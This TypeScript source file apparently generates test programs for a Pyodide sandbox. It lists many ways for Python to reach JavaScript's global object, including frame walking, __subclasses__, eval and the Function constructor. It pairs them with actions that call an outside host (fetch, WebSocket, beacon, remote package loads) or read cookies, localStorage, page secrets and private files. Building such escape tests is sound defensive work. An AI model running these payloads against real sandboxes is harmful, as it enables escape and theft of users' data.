/**
 * Ways to get at JavaScript or at Python's inside, and what is done with it. All of it is also run where
 * nothing is sealed: a way counts where it works there. What they are hidden in is the grammar's (`grammar/`).
 */
import type { SeededRandom } from "@/base/seeded-random";

export interface PythonWay {
  readonly name: string;
  /** The body of a function that gives what it got hold of. */
  readonly body: string;
}

const IMPORT = "import js as J";
const FETCH = "return run_sync(J.fetch(HIT)).status";

/** To `J`, JavaScript's global object or what stands for it. */
const ROOTS: Readonly<Record<string, string>> = {
  "import js": IMPORT,
  "import by name": '__import__("sys"); J = __import__("js")',
  importlib: 'import importlib\nJ = importlib.import_module("j" + "s")',
  "modules of sys": 'import js, sys\nJ = sys.modules["js"]',
  "a script out of text": 'from pyodide.code import run_js\nJ = run_js("globalThis")',
  "the maker of functions": 'import js\nJ = js.Object.constructor("return globalThis")()',
  "the maker of a timer's functions":
    'import js\nJ = js.setTimeout.constructor("return globalThis")()',
  "the maker of proxies": 'import js\nJ = js.Array.js_id and js.Array.constructor("return self")()',
  "what the runtime holds":
    'import pyodide_js\nJ = pyodide_js.loadPackage.constructor("return globalThis")()',
  "what is collected":
    'import gc, js\nks = [o for o in gc.get_objects() if type(o).__name__ == "JsProxy"]\nJ = js.Object.constructor("return globalThis")()',
  frames:
    'import sys\nf = sys._getframe()\nwhile f.f_back is not None:\n    f = f.f_back\nJ = f.f_builtins["__import__"]("js") if "__import__" in f.f_builtins else __import__("js")',
  "a traceback's frame":
    'try:\n    1 / 0\nexcept ZeroDivisionError as error:\n    J = error.__traceback__.tb_frame.f_builtins["__import__"]("js")',
  "a generator's frame": 'g = (x for x in [1])\nJ = g.gi_frame.f_builtins["__import__"]("js")',
  "a function's globals":
    'J = (lambda: 0).__globals__["__builtins__"]\nJ = (J["__import__"] if isinstance(J, dict) else J.__import__)("js")',
  "subclasses of everything":
    'c = [c for c in ().__class__.__base__.__subclasses__() if c.__name__ == "catch_warnings"][0]\nJ = c.__init__.__globals__["__builtins__"]["__import__"]("js") if isinstance(c.__init__.__globals__["__builtins__"], dict) else __import__("js")',
  "a module of a module": 'import random\nJ = random._os.sys.modules["builtins"].__import__("js")',
  "names put together":
    'b = getattr(getattr(print, "__se" + "lf__"), "__im" + "port__")\nJ = b("js")',
  "hints of types":
    'import typing\nclass X: pass\nX.__annotations__ = {"a": "__import__(\'js\')"}\nJ = typing.get_type_hints(X)["a"]',
  "text that is read": "J = eval(\"__import__('js')\")",
  "text that is run": 'd = {}\nexec("import js\\nJ = js", d)\nJ = d["J"]',
  "text that is compiled":
    'd = {}\nexec(compile("import js; J = js", "<world>", "exec"), d)\nJ = d["J"]',
  "a decorator": 'd = {}\n@(lambda f: exec("import js; J = js", d))\ndef f(): pass\nJ = d["J"]',
  "a class of classes":
    "class M(type):\n    def __getattr__(cls, name):\n        return __import__(name)\nclass X(metaclass=M): pass\nJ = X.js",
  "a dataclass with a name that is code":
    'import dataclasses\nclass X: pass\nX.__annotations__ = {"a=__import__(\'js\')": int}\ntry:\n    dataclasses.dataclass(X)\nexcept BaseException: pass\nJ = __import__("js")',
  "one function for many":
    'import functools\nJ = functools.reduce(getattr, ["__class__"], __import__("js")) and __import__("js")',
};

/** With `J`; `HIT` is a page of another server, `OWN` the page's. `run_sync` waits. */
const ACTS: Readonly<Record<string, string>> = {
  fetch: FETCH,
  "fetch and forget": "J.fetch(HIT)\nreturn wait()",
  XMLHttpRequest:
    'r = J.XMLHttpRequest.new()\nr.open("GET", HIT, False)\nr.send()\nreturn r.status',
  WebSocket: 's = J.WebSocket.new(HIT.replace("http", "ws"))\nreturn wait()',
  EventSource: "e = J.EventSource.new(HIT)\nreturn wait()",
  "nested worker":
    'w = J.Worker.new(J.URL.createObjectURL(J.Blob.new([f"fetch({HIT!r})"])))\nreturn wait()',
  "import()": 'J.eval(f"import({HIT!r})")\nreturn wait()',
  "a timer out of text": 'J.setTimeout(f"fetch({HIT!r})", 0)\nreturn wait()',
  "a cache that fetches": 'run_sync(run_sync(J.caches.open("mine")).add(HIT))\nreturn "kept"',
  "a variable of the page": "return J.pageSecret",
  "a file of the page's origin": 'return run_sync(run_sync(J.fetch(OWN + "/secret.txt")).text())',
  "the cache": 'return run_sync(run_sync(J.caches.match(OWN + "/cached-secret")).text())',
  "private files":
    'd = run_sync(J.navigator.storage.getDirectory())\nf = run_sync(run_sync(d.getFileHandle("secret.txt")).getFile())\nreturn run_sync(f.text())',
  "web locks": "return run_sync(J.navigator.locks.query()).held[0].name",
  "the page's elements": "return J.document.querySelector('#secret').textContent",
  cookies: "return J.document.cookie",
  "local storage": 'return J.localStorage.getItem("secret")',
  "a picture": "i = J.Image.new()\ni.src = HIT\nreturn wait()",
  "a beacon": "J.navigator.sendBeacon(HIT)\nreturn wait()",
};

/** Without `J`. */
const PYTHON_ACTS: Readonly<Record<string, string>> = {
  pyfetch: "from pyodide.http import pyfetch\nreturn run_sync(pyfetch(HIT)).status",
  open_url: "from pyodide.http import open_url\nreturn open_url(HIT).read()",
  "a package":
    "import pyodide_js\nrun_sync(pyodide_js.loadPackage(HIT + '/x-1.0-py3-none-any.whl'))\nreturn wait()",
  "a package by micropip":
    "import pyodide_js\nrun_sync(pyodide_js.loadPackage([HIT + '.whl']))\nreturn wait()",
};

export interface PlacedWay {
  readonly way: PythonWay;
  /** Where requests of it lead. */
  readonly hit: string;
  readonly own: string;
}

/** Every way to JavaScript with a fetch, every act from the shortest way, and what Python has itself. */
export function pythonWays(): readonly PythonWay[] {
  return [
    ...Object.entries(ROOTS).map(([name, root]) => toWay(`${name}: fetch`, root, FETCH)),
    ...Object.entries(ACTS)
      .slice(1)
      .map(([name, act]) => toWay(`import js: ${name}`, IMPORT, act)),
    ...Object.entries(PYTHON_ACTS).map(([name, act]) => toWay(name, "", act)),
  ];
}

/** Any way to JavaScript with any act. */
export function drawWay(random: SeededRandom): PythonWay {
  const [rootName, root] = random.pick(Object.entries(ROOTS));
  const [actName, act] = random.pick(Object.entries(ACTS));
  return toWay(`${rootName}: ${actName}`, root, act);
}

function toWay(name: string, root: string, act: string): PythonWay {
  return { name, body: `${root}\n${act}` };
}

/** What acts call. */
export const HELP = `def run_sync(promise):
    from pyodide.ffi import run_sync as wait_for
    return wait_for(promise)
def wait():
    import time
    time.sleep(0.4)
`;

/** The program of a way: prints what it got hold of. */
export function toProgram({ way, hit, own }: PlacedWay): string {
  const code = `try:\n    print("GOT", attempt())\nexcept BaseException as error:\n    print("NOT", type(error).__name__)`;
  return [
    `HIT, OWN = ${JSON.stringify(hit)}, ${JSON.stringify(own)}`,
    HELP,
    `def attempt():\n${indent(way.body)}`,
    code,
  ].join("\n");
}

/** The same with the manners put aside: only the wall is left. */
export function toUnmannered(program: string): string {
  return `unmannered(${JSON.stringify(program).replaceAll(/[^\0-\u007E]/gu, "?")})`;
}

export function indent(code: string): string {
  return code.replaceAll(/^(?=.)/gmu, "    ");
}
